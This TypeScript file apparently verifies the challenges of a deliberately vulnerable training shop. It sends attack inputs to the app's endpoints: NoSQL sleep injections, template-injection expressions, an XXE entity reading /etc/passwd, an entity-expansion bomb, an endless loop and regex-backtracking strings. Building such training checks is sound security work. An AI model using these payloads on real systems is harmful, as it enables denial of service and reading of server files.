import { createGuestForm, toOrderItem } from '../../../backend/src/testing/forms.ts';
import { createSearches } from './search-requests.ts';
import {
  sendAll,
  hasReply,
  hasText,
  type Challenge,
  type ChallengeContext,
  type Attempt,
} from './challenge.ts';

/** Checks whether a response takes more than 8 s, so that the input was executed. */
async function isSlow(shop: ChallengeContext, attempts: readonly Attempt[]): Promise<boolean> {
  let maxMs = 0;
  for (const attempt of attempts) {
    const startedAt = performance.now();
    await sendAll(shop, [attempt]);
    maxMs = Math.max(maxMs, performance.now() - startedAt);
  }
  return maxMs > 8_000;
}

const templateExpressions = [
  '#{7919*7907}',
  '{{7919*7907}}',
  '${7919*7907}',
  '<%= 7919*7907 %>',
  '{7919*7907}',
];

export const commands: readonly Challenge[] = [
  {
    name: 'NoSQL DoS',
    attack: 'make the database sleep for ten seconds',
    successSign: 'slow responses',
    isSolved: (shop) =>
      isSlow(shop, createSearches(shop, ['sleep(10000)', `';sleep(10000);'`, '{"$where":"sleep(10000)"}'])),
  },
  {
    name: 'SSTi',
    attack: 'send template expressions as names, product texts and URLs, and read the pages',
    successSign: 'the evaluated expression',
    isSolved: async (shop) => {
      const { app, chef } = shop;
      const name = templateExpressions.join(' ');
      const product = await app.createProduct(chef, { name, description: name });
      const otherChef = await app.createChef({ name });
      const path = encodeURIComponent(name);
      const html = { Accept: 'text/html' };
      const attempts = [
        `/mainpage/product/${product._id}`,
        `/chefitems/${otherChef._id}`,
        `/search/${path}`,
        `/?q=${path}`,
      ].map((page): Attempt => ['get', page, { headers: html }]);
      const json: Attempt[] = [
        ['get', `/api/products/${product._id}`],
        ['get', `/api/nothing/${path}`],
      ];
      return hasReply(shop, [...attempts, ...json], hasText('62615533'));
    },
  },
  {
    name: 'XXE Data Access',
    attack: 'send XML that reads a server file, as data and as a picture',
    successSign: 'the content of the file',
    isSolved: (shop) =>
      hasReply(
        shop,
        createXmlAttempts(shop, createEntityXml('<!ENTITY x SYSTEM "file:///etc/passwd">')),
        hasText(/root:.*:0:0/),
      ),
  },
  {
    name: 'XXE DoS',
    attack: 'send XML with exponential entity expansion',
    successSign: 'slow responses',
    isSolved: (shop) => {
      const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
      return isSlow(
        shop,
        createXmlAttempts(shop, createEntityXml(`<!ENTITY e0 "ha">${entities.join('')}<!ENTITY x "&e9;">`)),
      );
    },
  },
  {
    name: 'Blocked RCE DoS',
    attack: 'send an endless loop in every text field of an order',
    successSign: 'slow responses',
    isSolved: (shop) => isSlow(shop, createCodeAttempts(shop, '(function forever(){while(true);})()')),
  },
  {
    name: 'Successful RCE DoS',
    attack: 'send patterns and texts that cause catastrophic backtracking',
    successSign: 'slow responses',
    isSolved: (shop) => {
      const slowInputs = [
        '/((a+)+)b/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")',
        `${'a'.repeat(180)}!`,
        '(a+)+$',
        ' '.repeat(190),
      ];
      return isSlow(shop, [
        ...slowInputs.flatMap((text) => createCodeAttempts(shop, text)),
        ...createSearches(shop, slowInputs),
      ]);
    },
  },
];

const createEntityXml = (definitions: string) =>
  `<?xml version="1.0"?><!DOCTYPE svg [${definitions}]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`;

function createXmlAttempts({ chef }: ChallengeContext, document: string): Attempt[] {
  const { token } = chef;
  const types = ['application/xml', 'text/xml', 'image/svg+xml', 'application/json'];
  const paths = [
    '/api/products',
    '/api/upload',
    '/api/orders/guest',
    '/api/users/login',
    '/file-upload',
    '/b2b/v2/orders',
  ];
  return paths.flatMap((path) =>
    types.map((type): Attempt => [
      'post',
      path,
      { body: document, token, headers: { 'Content-Type': type } },
    ]),
  );
}

function createCodeAttempts({ product, attacker }: ChallengeContext, text: string): Attempt[] {
  const { token } = attacker;
  const form = createGuestForm([{ ...toOrderItem(product), qty: text }], {
    userName: text,
    userEmail: text,
    customerPhone: text,
  });
  const register = { name: text, email: `${text}@example.com`, phone: text, password: text };
  return [
    ['post', '/api/orders/guest', { body: form }],
    ['post', '/b2b/v2/orders', { body: { cid: text, orderLinesData: text }, token }],
    ['post', '/api/orders', { body: { orderItems: text, shippingAddress: text }, token }],
    ['post', '/api/users', { body: register }],
    ['post', `/api/products/${product._id}/reviews`, { body: { rating: text, comment: text }, token }],
    ['get', `/api/orders/guest/${encodeURIComponent(text)}`],
  ];
}
